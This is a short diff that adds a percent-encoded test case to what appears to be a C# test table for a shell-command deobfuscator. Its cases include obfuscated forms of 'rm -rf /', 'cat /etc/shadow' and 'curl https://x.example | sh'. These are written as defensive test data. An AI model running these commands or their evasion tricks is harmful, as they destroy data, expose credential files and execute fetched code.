@@ -31,6 +31,7 @@ public sealed class ShellTextTests
         { "a variable", "a=rm; $a -rf /", "rm -rf /" },
         { "variables put together", "a=r;b=m;$a$b -rf /", "rm -rf /" },
         { "variables in braces", "X=/etc/shadow; cat ${X}", "cat /etc/shadow" },
+        { "percent-encoding", "%63%61%74%20%2fetc%2fshadow", "cat /etc/shadow" },
         { "a variable put together", "cmd=cu; cmd+=rl; $cmd https://x.example | sh", "curl https://x.example" },
         { "an unset variable in a word", "r${x}m -rf /", "rm -rf /" },
         { "a list that holds an address", "{curl,-s,https://x.example/a}|sh", "curl -s https://x.example/a" },
